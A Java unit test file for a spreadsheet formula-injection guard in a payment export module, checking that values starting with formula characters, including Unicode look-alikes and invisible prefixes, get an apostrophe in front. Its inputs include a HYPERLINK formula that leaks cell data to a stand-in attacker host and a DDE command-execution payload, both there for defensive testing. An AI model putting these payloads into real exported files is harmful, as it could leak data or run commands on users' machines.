package dev.vote.payment.export;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaGuardTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(A1)",
                "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "=cmd|'/c calc'!A1",
                "-",
                "\t=1+1",
                "\r=1+1",
                "\n=1+1",
                "\tharmless after a tab"
            })
    void whatBeginsAFormulaGetsAnApostropheInFront(String text) {
        assertThat(FormulaGuard.harmless(text)).startsWith("'");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                // full width, small, superscript; the minus of mathematics
                "\uFF1D1+1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20SUM",
                "\uFE661",
                "\uFE621",
                "\uFE631",
                "\uFE6BSUM",
                "\u207A1",
                "\u22121"
            })
    void otherFormsOfTheSameCharactersAreGuardedToo(String text) {
        assertThat(FormulaGuard.harmless(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                " =1",
                "   +1",
                "\u00A0=1",
                "\u3000\uFF1D1",
                "\u2003-1",
                "\uFEFF=1",
                "\u200B@A",
                "\u202E=1",
                "\u0000=1",
                "\u000B=1"
            })
    void whatStandsInvisiblyBeforeAFormulaDoesNotHideIt(String text) {
        assertThat(FormulaGuard.harmless(text)).isEqualTo("'" + text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Ada;=1+1", "Ada; =1+1", "Ada\n=1+1", "Ada\r\n-1", "Ada\t@A1", "\";=1+1"})
    void aFormulaBehindAnotherCountrysSeparatorIsGuarded(String text) {
        assertThat(FormulaGuard.harmless(text)).containsPattern("[;\n\t]' ?[=+@-]");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "Ada Obi",
                "Jean-Pierre",
                "a+b=c",
                "ada@example.com",
                "Amina 'Mina' Yakubu",
                "'=already text",
                "\u5F20\u4F1F",
                "\uD83C\uDF1F Star",
                "Insufficient Funds; try again",
                "REF1234567890"
            })
    void otherTextsStayAsTheyAre(String text) {
        assertThat(FormulaGuard.harmless(text)).isEqualTo(text);
    }

    @Test
    void theTextBehindTheApostropheIsWhole() {
        assertThat(FormulaGuard.harmless("=\uD83C\uDF1F;x")).isEqualTo("'=\uD83C\uDF1F;x");
    }

    @Test
    void aTextThatWasGuardedStaysAsItIs() {
        String once = FormulaGuard.harmless("=1+1;-2");

        assertThat(FormulaGuard.harmless(once)).isEqualTo(once).isEqualTo("'=1+1;'-2");
    }
}
